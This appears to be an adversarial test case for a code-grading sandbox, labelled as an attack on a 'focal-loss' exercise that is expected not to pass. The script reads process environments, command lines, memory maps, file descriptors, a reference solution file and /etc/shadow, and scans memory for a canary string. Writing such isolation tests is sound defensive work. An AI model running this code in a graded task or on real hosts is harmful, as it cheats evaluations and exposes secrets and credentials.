# attack: reads environments, command lines, memory maps and descriptors of every process
# expect: not passed
# exercise: losses/focal-loss
# base: none
# place: instead

import os
import re

for process in ("self", "1", "2", str(os.getppid()), str(os.getpid())):
    for part in ("environ", "cmdline", "maps", "status", "cwd/solution.py", "root/etc/shadow"):
        try:
            print(open(f"/proc/{process}/{part}", errors="replace").read()[:20000])
        except OSError:
            pass
    try:
        for descriptor in os.listdir(f"/proc/{process}/fd"):
            print(os.readlink(f"/proc/{process}/fd/{descriptor}"))
    except OSError:
        pass
memory = open("/proc/self/mem", "rb", buffering=0)
for start, end in re.findall(r"([0-9a-f]+)-([0-9a-f]+) r", open("/proc/self/maps").read())[:200]:
    memory.seek(int(start, 16))
    if b"canary-" in memory.read(min(int(end, 16) - int(start, 16), 1 << 20)):
        print("found it")
